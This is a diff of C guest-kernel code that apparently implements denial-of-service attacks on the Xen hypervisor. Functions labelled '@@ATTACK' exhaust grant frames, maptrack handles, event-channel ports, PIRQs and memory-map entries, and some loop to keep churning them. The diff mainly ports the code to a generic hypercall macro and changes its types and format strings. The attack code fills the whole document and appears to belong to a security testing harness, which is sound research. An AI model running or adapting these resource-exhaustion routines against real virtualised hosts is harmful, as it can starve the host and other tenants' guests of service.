@@ -9,7 +9,7 @@
 static struct gnt_entry_v1 *grants;
 static unsigned nr_frames;
 static u16 self;
-static s64 op(int cmd, void *arg, unsigned n) { return HC3(grant_table_op, cmd, arg, n); }
+static long op(int cmd, void *arg, unsigned n) { return HC(grant_table_op, cmd, arg, n); }
 
 /* Allocates the maximum number of shared frames, mapped at the start of the zone. */
 static void take_frames(void) {
@@ -18,7 +18,7 @@ static void take_frames(void) {
     op(GNT_query_size, &q, 1);
     u32 want = q.max_nr_frames < MAX_FRAMES ? q.max_nr_frames : MAX_FRAMES;
     do {
-        struct gnt_setup s = {.dom = DOMID_SELF, .nr_frames = want, .frame_list = (u64)list};
+        struct gnt_setup s = {.dom = DOMID_SELF, .nr_frames = want, .frame_list = (ulong)list};
         op(GNT_setup_table, &s, 1);
         if (s.status == 0) nr_frames = want;
     } while (!nr_frames && (want /= 2));
@@ -63,31 +63,31 @@ static void give_handles_back(u64 handles) {
     }
 }
 
-static s64 set_memory_map(unsigned entries) {
+static long set_memory_map(unsigned entries) {
     static struct e820_entry map[MAP_ENTRIES];
-    for (unsigned i = 0; i < entries; i++) map[i] = (struct e820_entry){(u64)i << 20, 1 << 20, 1};
-    struct foreign_memory_map m = {.domid = DOMID_SELF, .map = {.nr_entries = entries, .buffer = (u64)map}};
-    return HC2(memory_op, XENMEM_set_memory_map, &m);
+    for (unsigned i = 0; i < entries; i++) map[i] = (struct e820_entry){(ulong)i << 20, 1 << 20, 1};
+    struct foreign_memory_map m = {.domid = DOMID_SELF, .map = {.nr_entries = entries, .buffer = (ulong)map}};
+    return HC(memory_op, XENMEM_set_memory_map, &m);
 }
 
 /* Allocates FIFO control blocks and event words, then all ports. */
 static unsigned take_ports(void) {
     for (unsigned v = 0; v < vcpu_count(); v++) {
         struct evt_init_control c = {.control_gfn = va_mfn(alloc_page()), .vcpu = v};
-        if (HC2(event_channel_op, EVT_init_control, &c)) break;
+        if (HC(event_channel_op, EVT_init_control, &c)) break;
     }
     struct evt_expand_array a;
     do a.array_gfn = va_mfn(alloc_page());
-    while (HC2(event_channel_op, EVT_expand_array, &a) == 0);
+    while (HC(event_channel_op, EVT_expand_array, &a) == 0);
     unsigned ports = 0;
-    while (HC2(event_channel_op, EVT_bind_ipi, &(struct evt_bind_ipi){.vcpu = 0}) == 0) ports++;
+    while (HC(event_channel_op, EVT_bind_ipi, &(struct evt_bind_ipi){.vcpu = 0}) == 0) ports++;
     return ports;
 }
 
 static unsigned take_pirqs(void) {
     unsigned n = 0;
     struct get_free_pirq any = {0, 0};
-    while (n < 65536 && HC2(physdev_op, PHYSDEVOP_get_free_pirq, &any) == 0) n++;
+    while (n < 65536 && HC(physdev_op, PHYSDEVOP_get_free_pirq, &any) == 0) n++;
     return n;
 }
 
@@ -95,10 +95,10 @@ static void take_areas(void) {
     u8 *page = alloc_page();
     vcpu_infos_register();
     for (unsigned v = 0; v < vcpu_count(); v++) {
-        u64 at = (u64)page + 64 * (v % 32);
-        HC3(vcpu_op, VCPUOP_register_runstate, v, &at);
+        u64 at = (ulong)page + 64 * (v % 32);
+        HC(vcpu_op, VCPUOP_register_runstate, v, &at);
         at += 2048;
-        HC3(vcpu_op, VCPUOP_register_time, v, &at);
+        HC(vcpu_op, VCPUOP_register_time, v, &at);
     }
 }
 
@@ -106,9 +106,9 @@ static void frames_of_version_2(void) {
     static u64 list[MAX_FRAMES];
     struct { u32 version; } set = {2};
     if (op(GNT_set_version, &set, 1)) return;
-    struct gnt_setup s = {.dom = DOMID_SELF, .nr_frames = MAX_FRAMES, .frame_list = (u64)list};
+    struct gnt_setup s = {.dom = DOMID_SELF, .nr_frames = MAX_FRAMES, .frame_list = (ulong)list};
     op(GNT_setup_table, &s, 1);
-    struct { u32 nr; u16 dom; int16_t status; u64 list; } status = {8, DOMID_SELF, 0, (u64)list};
+    struct { u32 nr; u16 dom; int16_t status; u64 list; } status = {8, DOMID_SELF, 0, (ulong)list};
     op(GNT_get_status_frames, &status, 1);
     set.version = 1;
     op(GNT_set_version, &set, 1);
@@ -120,15 +120,15 @@ static __attribute__((noreturn)) void hoard(void) {
     take_frames();
     grant_all();
     u64 handles = take_handles(~0ull);
-    s64 map = set_memory_map(MAP_ENTRIES);
+    long map = set_memory_map(MAP_ENTRIES);
     take_areas();
     unsigned pirqs = take_pirqs(), ports = take_ports();
-    printk("@@ATTACK hoard full: frames %u handles %lu map %ld ports %u pirqs %u\n", nr_frames, handles, map, ports, pirqs);
+    printk("@@ATTACK hoard full: frames %u handles %llu map %ld ports %u pirqs %u\n", nr_frames, handles, map, ports, pirqs);
     for (u64 round = 1;; round++) {
         give_handles_back(handles);
         u64 again = take_handles(handles);
         set_memory_map(round % 2 ? 1 : MAP_ENTRIES);
-        if (second_passed()) printk("@@ATTACK hoard round %lu handles %lu\n", round, again);
+        if (second_passed()) printk("@@ATTACK hoard round %llu handles %llu\n", round, again);
     }
 }
 
@@ -142,22 +142,22 @@ static __attribute__((noreturn)) void turns(void) {
     take_frames();
     grant_all();
     do {
-        while (system_time() / 1000000 % of != turn) HC2(sched_op, SCHEDOP_yield, 0);
+        while (system_time() / 1000000 % of != turn) HC(sched_op, SCHEDOP_yield, 0);
         handles += got = take_handles(256);
-        if (second_passed()) printk("@@ATTACK turns handles %lu\n", handles);
+        if (second_passed()) printk("@@ATTACK turns handles %llu\n", handles);
     } while (got == 256);
-    printk("@@ATTACK turns full: frames %u handles %lu\n", nr_frames, handles);
+    printk("@@ATTACK turns full: frames %u handles %llu\n", nr_frames, handles);
     for (;;) work(100000);
 }
 
 static __attribute__((noreturn)) void frames(void) {
     zone_init();
     take_frames();
-    s64 map = set_memory_map(MAP_ENTRIES);
+    long map = set_memory_map(MAP_ENTRIES);
     printk("@@ATTACK frames full: frames %u map %ld\n", nr_frames, map);
     for (u64 round = 1;; round++) {
         set_memory_map(round % 2 ? 1 : MAP_ENTRIES);
-        if (second_passed()) printk("@@ATTACK frames round %lu\n", round);
+        if (second_passed()) printk("@@ATTACK frames round %llu\n", round);
     }
 }
 
@@ -166,8 +166,8 @@ static __attribute__((noreturn)) void probe(void) {
     take_frames();
     grant_all();
     u64 handles = take_handles(~0ull);
-    s64 map = set_memory_map(MAP_ENTRIES);
-    printk("@@ATTACK probe full: frames %u handles %lu map %ld\n", nr_frames, handles, map);
+    long map = set_memory_map(MAP_ENTRIES);
+    printk("@@ATTACK probe full: frames %u handles %llu map %ld\n", nr_frames, handles, map);
     shutdown(SHUTDOWN_poweroff);
 }
 
